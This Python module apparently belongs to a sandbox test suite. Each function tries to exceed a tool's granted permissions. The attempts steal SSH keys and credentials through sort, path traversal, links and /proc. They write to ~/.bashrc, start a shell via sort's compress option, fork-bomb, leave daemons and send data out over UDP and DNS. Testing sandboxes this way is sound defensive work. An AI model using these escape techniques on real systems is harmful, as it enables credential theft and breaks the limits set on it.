"""What an admin has allowed a tool something, and how it goes beyond that."""

from __future__ import annotations

import os
import socket
import subprocess
import tempfile

from . import network, processes, programs, reading, sockets, writing
from ..table import CHANGED, FORGED, OUTLIVES, REACHED, STOLEN, WORD, attack

_SORT = "programs = ['sort']"
_COPIES = "processes = 4"
_LOOPBACK = "network = ['loopback']"
_NONE = "network = []"
_NOTES = "read = ['~/notes']"
_REPORTS = "write = ['~/reports']"


@attack(STOLEN, grants=_SORT)
def program_that_reads_for_it(scene):
    """Has a program that it may run read ~/.ssh/id_ed25519."""
    key = os.path.join(scene["home"], ".ssh/id_ed25519")
    return _run(["sort", key])


@attack(CHANGED, grants=_SORT)
def program_that_writes_for_it(scene):
    """Has a program that it may run write to ~/.bashrc."""
    return _run(["sort", "-o", os.path.join(scene["home"], ".bashrc"), "/dev/null"]) or "written"


@attack(CHANGED, grants=_SORT)
def program_that_runs_another(scene):
    """Has a program that it may run start a shell, as one that compresses for it."""
    path = os.path.join(tempfile.mkdtemp(), "many")
    with open(path, "w") as file:
        file.writelines(f"{number}\n" for number in range(200_000))
    os.environ["TARGET"] = os.path.join(scene["home"], "planted-by-an-attack")
    return _run(["sort", "-S", "64k", "--compress-program=sh", path])[:20]


@attack(WORD, grants=_SORT)
def program_beside_the_one_that_is_allowed(scene):
    """Runs a shell, where it may run another program."""
    return programs.shell(scene)


@attack(REACHED, grants=_SORT)
def connection_beside_a_program(scene):
    """Connects to 127.0.0.1, where it may run a program."""
    return network.tcp_to_loopback(scene)


@attack(FORGED, fatal=True, grants=_SORT)
def signal_beside_a_program(scene):
    """Ends the host's process, where it may run a program."""
    return processes.signal_to_the_parent(scene)


@attack(WORD, grants=_COPIES)
def more_copies_than_allowed(scene):
    """Forks 64 copies, where it may have four."""
    return processes.fork_bomb(scene)


@attack(WORD, grants=_COPIES)
def more_copies_than_allowed_by_clone(scene):
    """Makes 64 copies by the system call, where it may have four."""
    return processes.fork_bomb_past_pythons_fork(scene)


@attack(OUTLIVES, fatal=True, grants=_COPIES)
def copy_that_stays(scene):
    """Leaves a copy that has left its session, its group and its parent."""
    return processes.daemon(scene)


@attack(OUTLIVES, fatal=True, grants=_COPIES)
def copies_that_stay(scene):
    """Leaves copies that fork and end faster than they can be ended."""
    return processes.chain_of_processes(scene)


@attack(REACHED, grants=_COPIES)
def copy_that_connects(scene):
    """Has a copy of it connect to 127.0.0.1."""
    return _in_a_copy(network.tcp_to_loopback, scene)


@attack(CHANGED, grants=_COPIES)
def copy_that_writes(scene):
    """Has a copy of it write to ~/.bashrc."""
    return _in_a_copy(writing.line_in_bashrc, scene)


@attack(REACHED, grants=_LOOPBACK)
def own_network_beside_loopback(scene):
    """Connects to this machine's address in its network, where it may reach loopback."""
    return network.tcp_to_its_own_network(scene)


@attack(STOLEN, grants=_COPIES)
def shared_memory_of_others_beside_its_own(scene):
    """Reads a file in /dev/shm that is not its own, where its copies may share memory."""
    return reading.shared_memory_of_others(scene)


@attack(OUTLIVES, grants=_COPIES)
def shared_memory_that_stays(scene):
    """Leaves a file in /dev/shm, where its copies may share memory."""
    return writing.file_in_shared_memory(scene)


@attack(REACHED, grants=_LOOPBACK)
def socket_by_path_beside_loopback(scene):
    """Connects to the path of a socket, where it may reach loopback by the internet's protocols."""
    return sockets.unix_socket_by_path(scene)


@attack(WORD, grants=_LOOPBACK)
def metadata_beside_loopback(scene):
    """Asks a cloud's metadata service, where it may reach loopback."""
    return network.metadata_service(scene)


@attack(REACHED, grants="network = ['127.0.0.1:9']")
def another_port_of_a_host(scene):
    """Connects to another port of a host of which it may reach one."""
    return network.tcp_to_loopback(scene)


@attack(REACHED, grants="network = ['127.0.0.1:9']")
def another_port_by_datagram(scene):
    """Sends a datagram to another port of a host of which it may reach one."""
    return network.udp_to_loopback(scene)


@attack(REACHED, grants=_NONE)
def tcp_without_network(scene):
    """Connects to 127.0.0.1 with no network at all."""
    return network.tcp_to_loopback(scene)


@attack(REACHED, grants=_NONE)
def udp_without_network(scene):
    """Sends a datagram to 127.0.0.1 with no network at all."""
    return network.udp_to_loopback(scene)


@attack(WORD, grants=_NONE)
def public_address_without_network(scene):
    """Makes a socket by which the public internet can be reached, with no network at all."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(scene["mark"].encode(), ("203.0.113.7", 53))
    return "sent"


@attack(WORD, grants=_NONE)
def name_server_without_network(scene):
    """Asks the system's name server for a name that is a secret, with no network at all."""
    with open("/etc/resolv.conf") as file:
        server = next(line.split()[1] for line in file if line.startswith("nameserver"))
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\4mark\7example\0\0\1\0\1", (server, 53))
    return "asked"


@attack(STOLEN, grants=_NOTES)
def path_out_of_a_folder(scene):
    """Reads ~/.ssh/id_ed25519 by a path that begins in a folder that it may read."""
    with open(os.path.join(scene["home"], "notes/../.ssh/id_ed25519")) as file:
        return file.read()


@attack(CHANGED, grants=_NOTES)
def write_where_it_may_read(scene):
    """Adds a file to a folder that it may read."""
    with open(os.path.join(scene["home"], "notes/planted-by-an-attack"), "w") as file:
        file.write("mine")
    return "written"


@attack(CHANGED, grants=_NOTES)
def mode_where_it_may_read(scene):
    """Opens a document to everybody that it may read."""
    os.chmod(os.path.join(scene["home"], "notes/diary.md"), 0o666)
    return "changed"


@attack(STOLEN, grants=_REPORTS)
def hard_link_into_a_folder(scene):
    """Links ~/.ssh/id_ed25519 into a folder that it may write to, and reads it there."""
    link = os.path.join(scene["home"], "reports/mine")
    os.link(os.path.join(scene["home"], ".ssh/id_ed25519"), link)
    with open(link) as file:
        return file.read()


@attack(STOLEN, grants=_REPORTS)
def file_moved_into_a_folder(scene):
    """Moves ~/.ssh/id_ed25519 into a folder that it may write to, and reads it there."""
    link = os.path.join(scene["home"], "reports/mine")
    os.rename(os.path.join(scene["home"], ".ssh/id_ed25519"), link)
    with open(link) as file:
        return file.read()


@attack(CHANGED, grants=_REPORTS)
def symbolic_link_out_of_a_folder(scene):
    """Makes a link to ~/.bashrc in a folder that it may write to, and writes to the link."""
    link = os.path.join(scene["home"], "reports/planted-by-an-attack")
    os.symlink("../.bashrc", link)
    try:
        with open(link, "a") as file:
            file.write("mine")
    finally:
        os.unlink(link)
    return "written"


@attack(WORD, grants=_REPORTS)
def program_in_a_folder(scene):
    """Writes a program into a folder that it may write to, and runs it."""
    path = os.path.join(scene["home"], "reports/program")
    with open(path, "w") as file:
        file.write("#!/bin/sh\nexit 0\n")
    try:
        os.chmod(path, 0o755)
        subprocess.run([path], check=True)
    finally:
        os.unlink(path)
    return "it has run"


@attack(STOLEN, grants="read = ['~']")
def credentials_in_a_folder(scene):
    """Reads the credentials file, where it may read the whole home."""
    with open(scene["credentials"]) as file:
        return file.read()


@attack(STOLEN, grants="read = ['~/*']")
def hidden_folder_beside_the_others(scene):
    """Reads ~/.ssh/id_ed25519, where it may read the home but for what is hidden."""
    with open(os.path.join(scene["home"], ".ssh/id_ed25519")) as file:
        return file.read()


@attack(CHANGED, grants="write = ['~']")
def configuration_in_a_folder(scene):
    """Grants itself everything in config.toml, where it may write to the whole home."""
    return writing.configuration_of_the_host(scene)


@attack(CHANGED, grants="write = ['~']")
def state_in_a_folder(scene):
    """Changes what another tool has kept, where it may write to the whole home."""
    return writing.state_of_another_tool_changed(scene)


@attack(STOLEN, grants=_COPIES)
def files_on_a_neighbour_beside_a_copy(scene):
    """Reads the environment, the files and the folder of another process, where it may start some of its own."""
    folder, loot, last = f"/proc/{scene['victim']}", [], None
    for name in ("environ", "fd/5", "cwd/secret.txt", f"root{scene['outside']}/secret.txt", "mem", "task"):
        try:
            if name == "task":
                names = [f"{folder}/task/{one}/environ" for one in os.listdir(f"{folder}/task")]
            else:
                names = [os.path.join(folder, name)]
            for one in names:
                with open(one, "rb") as file:
                    loot.append(file.read(4096).decode(errors="replace"))
        except OSError as error:
            last = error
    if not loot and last:
        raise last
    return " ".join(loot)


@attack(STOLEN, grants=_COPIES)
def call_of_a_neighbour_beside_a_copy(scene):
    """Reads how another process was called, where it may start some of its own."""
    return reading._read(f"/proc/{scene['victim']}", "cmdline")


def _run(command):
    done = subprocess.run(command, capture_output=True, text=True, timeout=10, check=False)
    if done.returncode:
        raise PermissionError(1, done.stderr.strip()[:100])
    return done.stdout


def _in_a_copy(function, scene):
    """What a function says in a copy; PermissionError where it says nothing."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(writer, str(function(scene)).encode())
        finally:
            os._exit(0)
    os.close(writer)
    os.waitpid(child, 0)
    text = os.read(reader, 1000).decode()
    if not text:
        raise PermissionError(1, "the copy got nothing")
    return text
